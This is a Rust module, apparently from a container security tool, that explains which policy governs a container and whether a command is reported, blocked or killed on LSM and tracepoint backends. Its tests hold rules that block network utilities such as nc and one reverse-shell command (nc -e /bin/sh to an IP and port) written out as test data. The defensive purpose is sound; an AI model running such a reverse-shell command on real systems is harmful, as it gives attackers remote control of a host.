//! What would come of an execution, and why: which policy a container has and why not another, which rule and which exception
//! decide, and what happens then on each backend.

use crate::{
    catalog::{Catalog, Severity},
    comm::PATTERN_SEVERITY,
    compile::Compiled,
    decide::{Decided, Execution, Found, Way, decide},
    omissions::Omissions,
    policyset::{Backend, Choice, Mode, ModeAnnotationError, OnAttachFailure, PolicyEntry, PolicySet},
    select::{Facts, Selection},
    source::Action,
};

/// One policy of the set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Candidate {
    /// Its name.
    pub name: String,
    /// It is the one.
    pub chosen: bool,
    /// Why, or why not.
    pub reason: String,
}

/// What an execution is recognised as, and what the policy says of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// The tool's id, or the pattern of comm.
    pub tool: String,
    /// How it is recognised.
    pub ways: Vec<Way>,
    /// What the rule says.
    pub action: Action,
    /// The rule that decides, counted from 1.
    pub rule: usize,
    /// Of the signal.
    pub severity: Severity,
    /// The exception that lets it pass, counted from 1.
    pub exception: Option<usize>,
}

/// What a signal would say.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Seen.
    Detected,
    /// Seen, and stopped in enforce mode.
    WouldBlock,
    /// It never ran.
    Blocked,
    /// Ended before its first instruction.
    Killed,
}

/// What happens on one backend.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Outcome {
    /// The backend.
    pub backend: Backend,
    /// `None`: there is no signal.
    pub verdict: Option<Verdict>,
    /// One sentence.
    pub message: String,
}

/// What would come of an execution, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Explanation {
    /// Every policy of the set, in the order in which they are tried, and those that never are.
    pub candidates: Vec<Candidate>,
    /// The one chosen.
    pub policy: String,
    /// See [`Choice::policy_reason`].
    pub policy_reason: String,
    /// In force.
    pub mode: Mode,
    /// See [`Choice::mode_reason`].
    pub mode_reason: String,
    /// What is reported or stopped; `None`: nothing.
    pub finding: Option<Finding>,
    /// What it would have been but for an exception.
    pub excepted: Vec<Finding>,
    /// For each backend.
    pub outcomes: Vec<Outcome>,
}

/// Explains an execution in a container. `policies` are those of the set, compiled, and those that it leaves out.
pub fn explain<'a>(
    catalog: &Catalog,
    set: &PolicySet,
    policies: impl IntoIterator<Item = &'a Compiled>,
    facts: &Facts<'_>,
    execution: &Execution<'_>,
) -> Result<Explanation, ModeAnnotationError> {
    let (choice, mut candidates) = selection(set, facts)?;
    let policies: Vec<&Compiled> = policies.into_iter().collect();
    candidates.extend(left_out(set, &policies));
    let compiled = policies.into_iter().find(|policy| policy.entry.id == choice.policy.id);
    let Decided { found, excepted } = compiled.map(|compiled| decide(catalog, compiled, execution)).unwrap_or_default();
    let finding = |found: Found, exception: Option<usize>| {
        let known = catalog.tools().iter().find(|tool| tool.id == found.id);
        let given = compiled.and_then(|compiled| compiled.rules.get(found.rule)?.severity);
        Finding {
            severity: given.or(known.map(|tool| tool.severity)).unwrap_or(PATTERN_SEVERITY),
            tool: found.id,
            ways: found.ways,
            action: found.action,
            rule: found.rule + 1,
            exception: exception.map(|number| number + 1),
        }
    };
    let found = found.map(|found| finding(found, None));
    let excepted: Vec<Finding> = excepted.into_iter().map(|(found, number)| finding(found, Some(number))).collect();
    let rule = found.as_ref().and_then(|found| compiled?.rules.get(found.rule - 1));
    let silence = rule.and_then(|rule| silence(rule.omissions.as_deref()?, execution));
    let outcome = |backend| {
        let outcome = outcome(backend, choice.policy, choice.mode, found.as_ref(), !excepted.is_empty());
        match (&silence, outcome.verdict) {
            // What has omissions is never stopped.
            (Some(silence), Some(Verdict::Detected)) => silence.clone().on(backend),
            _ => outcome,
        }
    };
    Ok(Explanation {
        outcomes: [Backend::Lsm, Backend::Tracepoint].map(outcome).into(),
        candidates,
        policy: choice.policy.name.clone(),
        policy_reason: choice.policy_reason,
        mode: choice.mode,
        mode_reason: choice.mode_reason,
        finding: found,
        excepted,
    })
}

/// Those that are never chosen, wherever.
fn left_out<'a>(set: &'a PolicySet, policies: &'a [&Compiled]) -> impl Iterator<Item = Candidate> {
    let default = &set.default_policy;
    let is_in_set = |id: u32| default.id == id || set.policies.iter().any(|policy| policy.id == id);
    policies.iter().filter(move |policy| !is_in_set(policy.entry.id)).map(|policy| Candidate {
        name: policy.entry.name.clone(),
        chosen: false,
        reason: format!("it is for every container, as {} is, which comes first", default.name),
    })
}

/// What keeps a rule's signal from being made, although the program runs.
#[derive(Debug, Clone)]
struct Silence {
    certain: bool,
    message: String,
}

impl Silence {
    fn on(self, backend: Backend) -> Outcome {
        let verdict = (!self.certain).then_some(Verdict::Detected);
        Outcome { backend, verdict, message: self.message }
    }
}

fn silence(omissions: &Omissions, execution: &Execution<'_>) -> Option<Silence> {
    if omissions.exclude(execution.argv.iter().skip(1).copied()) {
        let message =
            "it runs; nothing is reported, as the rule's exceptArguments names one of its arguments".to_owned();
        return Some(Silence { certain: true, message });
    }
    let time = omissions.repeats?.as_secs();
    let message = format!("it runs, and is reported, unless it is a repeat within {time} s (exceptRepeats)");
    Some(Silence { certain: false, message })
}

fn outcome(backend: Backend, policy: &PolicyEntry, mode: Mode, found: Option<&Finding>, excepted: bool) -> Outcome {
    let (verdict, message) = match (policy.obstacle(backend), found.map(|found| (found.action, mode, backend))) {
        (Some(obstacle), _) if policy.on_attach_failure == OnAttachFailure::Deny => {
            (None, format!("no such container starts there: {obstacle}"))
        }
        (Some(obstacle), _) => (None, format!("it runs unseen, as such a container has no guard there: {obstacle}")),
        (None, None) if excepted => (None, "it runs; nothing is reported, as an exception lets it pass".to_owned()),
        (None, None | Some((Action::Ignore, ..))) => {
            (None, "it runs; nothing is reported, as no rule names it".to_owned())
        }
        (None, Some((Action::Alert, ..))) => (Some(Verdict::Detected), "it runs, and is reported".to_owned()),
        (None, Some((Action::Block, Mode::Detect, _))) => {
            (Some(Verdict::WouldBlock), "it runs, and is reported as what enforce mode would stop".to_owned())
        }
        (None, Some((Action::Block, Mode::Enforce, Backend::Lsm))) => {
            (Some(Verdict::Blocked), "execve fails with EPERM, the program never runs; it is reported".to_owned())
        }
        (None, Some((Action::Block, Mode::Enforce, Backend::Tracepoint))) => {
            (Some(Verdict::Killed), "SIGKILL ends it before its first instruction; it is reported".to_owned())
        }
    };
    Outcome { backend, verdict, message }
}

/// The choice for a container, as [`PolicySet::choose`] makes it, and all that was there to choose from.
pub fn selection<'a>(
    set: &'a PolicySet,
    facts: &Facts<'_>,
) -> Result<(Choice<'a>, Vec<Candidate>), ModeAnnotationError> {
    let choice = set.choose(facts)?;
    let mut passed = false;
    let mut candidates = Vec::with_capacity(set.policies.len() + 1);
    for policy in set.policies.iter().chain([&set.default_policy]) {
        let chosen = policy.id == choice.policy.id;
        let reason = if chosen { choice.policy_reason.clone() } else { reason(policy, facts, passed, &choice) };
        passed |= chosen;
        candidates.push(Candidate { name: policy.name.clone(), chosen, reason });
    }
    Ok((choice, candidates))
}

/// Why it is not this one. `passed`: the one that is, is tried before.
fn reason(policy: &PolicyEntry, facts: &Facts<'_>, passed: bool, choice: &Choice<'_>) -> String {
    match policy.select.selection(facts) {
        Selection::Other => policy.select.mismatch(facts).unwrap_or_default(),
        Selection::ImageUnknown => "it goes by the image, which is not known".to_owned(),
        Selection::Selected(matched) => {
            let matched = if matched.is_empty() { "every container".to_owned() } else { matched };
            let but = if passed || !policy.select.by_annotations() {
                format!("{} is tried before, or takes its place", choice.policy.name)
            } else {
                "that is the workload's own wish, and it is less strict than what would hold otherwise".to_owned()
            };
            format!("it selects {matched}, but {but}")
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::{compile::compile, policyset::FORMAT, source::parse};

    fn entry(id: u32, name: &str, select: &str) -> PolicyEntry {
        let select = serde_json::from_str(select).unwrap();
        PolicyEntry { select, ..PolicyEntry::new(id, name, Mode::Detect, OnAttachFailure::Allow) }
    }

    fn reasons(
        image: Option<&str>,
        annotations: &BTreeMap<String, String>,
        may_replace: Vec<u32>,
    ) -> Vec<(String, bool, String)> {
        let set = PolicySet {
            format: FORMAT,
            backend: Backend::Lsm,
            pins: "/pins".into(),
            inner_shim: "inner".into(),
            catalog: 1,
            default_policy: entry(1, "default", "{}"),
            policies: vec![
                entry(5, "image", r#"{"namespaces": ["shop"], "images": ["r/web:*"]}"#),
                PolicyEntry { may_replace, ..entry(2, "wish", r#"{"annotations": {"tier": "web"}}"#) },
                entry(3, "bank", r#"{"namespaces": ["bank", "vault-*"]}"#),
                entry(4, "shop", r#"{"namespaces": ["sh*"]}"#),
            ],
        };
        let facts = Facts { namespace: Some("shop"), pod: None, container: Some("c"), image, annotations };
        let (choice, candidates) = selection(&set, &facts).unwrap();
        assert_eq!(candidates.iter().filter(|candidate| candidate.chosen).count(), 1);
        assert!(candidates.iter().any(|one| one.chosen && one.name == choice.policy.name));
        candidates.into_iter().map(|one| (one.name, one.chosen, one.reason)).collect()
    }

    /// A policy in force for all, and what it makes of a command.
    fn explained(spec: &str, mode: Mode, argv: &[&str]) -> Explanation {
        let catalog = Catalog::shipped().unwrap();
        let text = format!(
            "apiVersion: portcullis.dev/v1\nkind: NetworkUtilityPolicy\nmetadata: {{name: t}}\nspec: {{mode: {mode}, {spec}}}"
        );
        let compiled = compile(&catalog, &parse("t.yaml", &text).unwrap(), 7).unwrap();
        let set = PolicySet {
            format: FORMAT,
            backend: Backend::Lsm,
            pins: "/pins".into(),
            inner_shim: "inner".into(),
            catalog: 1,
            default_policy: compiled.entry.clone(),
            policies: Vec::new(),
        };
        let none = BTreeMap::new();
        let facts = Facts { namespace: None, pod: None, container: None, image: None, annotations: &none };
        explain(&catalog, &set, [&compiled], &facts, &Execution::of_command(argv)).unwrap()
    }

    #[test]
    fn what_is_never_chosen_is_told() {
        let policy = |name: &str, id| {
            let head = "apiVersion: portcullis.dev/v1\nkind: NetworkUtilityPolicy\nmetadata:";
            let text = format!("{head} {{name: {name}}}\nspec: {{mode: detect, rules: []}}");
            compile(&Catalog::shipped().unwrap(), &parse("t.yaml", &text).unwrap(), id).unwrap()
        };
        let (first, second) = (policy("a", 1), policy("b", 2));
        let set = PolicySet {
            format: FORMAT,
            backend: Backend::Lsm,
            pins: "/pins".into(),
            inner_shim: "inner".into(),
            catalog: 1,
            default_policy: first.entry.clone(),
            policies: Vec::new(),
        };
        let told: Vec<Candidate> = left_out(&set, &[&first, &second]).collect();
        assert_eq!(told.len(), 1);
        assert_eq!((told[0].name.as_str(), told[0].chosen), ("b", false));
        assert_eq!(told[0].reason, "it is for every container, as a is, which comes first");
    }

    #[test]
    fn rule_exception_and_outcome_are_told() {
        let spec = "rules: [{tools: [ping], action: alert, severity: high}, {tools: [nc], action: block}, \
                    {comm: ['odd*'], action: block}], exceptions: [{tools: [nc], arguments: [-z, '*', '...']}]";
        let verdicts =
            |explanation: &Explanation| explanation.outcomes.iter().map(|one| one.verdict).collect::<Vec<_>>();
        let nc = explained(spec, Mode::Enforce, &["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
        let finding = Finding {
            tool: "nc".into(),
            ways: vec![Way::Applet],
            action: Action::Block,
            rule: 2,
            severity: Severity::High,
            exception: None,
        };
        assert_eq!((nc.finding.as_ref(), nc.excepted.len()), (Some(&finding), 0));
        assert_eq!(verdicts(&nc), [Some(Verdict::Blocked), Some(Verdict::Killed)]);
        assert_eq!((nc.policy.as_str(), nc.mode_reason.as_str()), ("t", "policy"));
        let detect = explained(spec, Mode::Detect, &["nc"]);
        assert_eq!(verdicts(&detect), [Some(Verdict::WouldBlock); 2]);
        let excepted = explained(spec, Mode::Enforce, &["nc", "-z", "db", "5432"]);
        assert_eq!((excepted.finding.as_ref(), excepted.excepted[0].exception), (None, Some(1)));
        assert!(excepted.outcomes[0].message.contains("an exception lets it pass"), "{excepted:?}");
        let ping = explained(spec, Mode::Enforce, &["ping"]).finding.unwrap();
        assert_eq!((ping.rule, ping.severity), (1, Severity::High));
        let pattern = explained(spec, Mode::Enforce, &["oddity"]).finding.unwrap();
        assert_eq!((pattern.tool.as_str(), pattern.severity, pattern.rule), ("odd*", PATTERN_SEVERITY, 3));
        let rules = "rules: [{comm: [nc], action: alert, exceptArguments: [localhost], exceptRepeats: 1h}]";
        let silent = explained(rules, Mode::Enforce, &["nc", "localhost"]);
        assert!(silent.finding.is_some() && verdicts(&silent) == [None, None], "{silent:?}");
        let perhaps = explained(rules, Mode::Enforce, &["nc", "10.0.0.1"]);
        assert!(perhaps.outcomes[0].message.contains("a repeat within 3600 s"), "{perhaps:?}");
        let ls = explained(spec, Mode::Enforce, &["ls"]);
        assert!(ls.outcomes[0].message.contains("no rule names it") && verdicts(&ls) == [None, None], "{ls:?}");
    }

    #[test]
    fn another_backend_than_required_is_told() {
        let rules = "rules: [{tools: [nc], action: block}], requireBackend: lsm";
        let denied = explained(rules, Mode::Enforce, &["nc"]).outcomes;
        assert_eq!((denied[0].verdict, denied[1].verdict), (Some(Verdict::Blocked), None));
        assert!(denied[1].message.starts_with("no such container starts there: policy t requires"), "{denied:?}");
        let allowed = explained(&format!("{rules}, onAttachFailure: allow"), Mode::Enforce, &["nc"]).outcomes;
        assert!(allowed[1].message.starts_with("it runs unseen"), "{allowed:?}");
    }

    #[test]
    fn every_policy_has_its_reason() {
        let is = |name: &str, chosen, reason: &str| (name.to_owned(), chosen, reason.to_owned());
        let wish = BTreeMap::from([("tier".to_owned(), "web".to_owned())]);
        let found = reasons(None, &BTreeMap::new(), vec![]);
        assert_eq!(
            found,
            [
                is("image", false, "it goes by the image, which is not known"),
                is("wish", false, "there is no annotation tier"),
                is("bank", false, "namespaces \"shop\" is none of \"bank\", \"vault-*\""),
                is("shop", true, "it selects namespaces \"sh*\""),
                is("default", false, "it selects every container, but shop is tried before, or takes its place"),
            ]
        );
        let found = reasons(Some("r/db:1"), &wish, vec![]);
        assert_eq!(found[0].2, "images \"r/db:1\" is none of \"r/web:*\"");
        assert!(
            found[1].2.starts_with("it selects annotation tier \"web\", but that is the workload's own wish"),
            "{found:?}"
        );
        let found = reasons(Some("r/db:1"), &wish, vec![4]);
        assert!(found[1].1 && !found[3].1, "{found:?}");
        assert!(found[3].2.contains("but wish is tried before"), "{found:?}");
    }
}
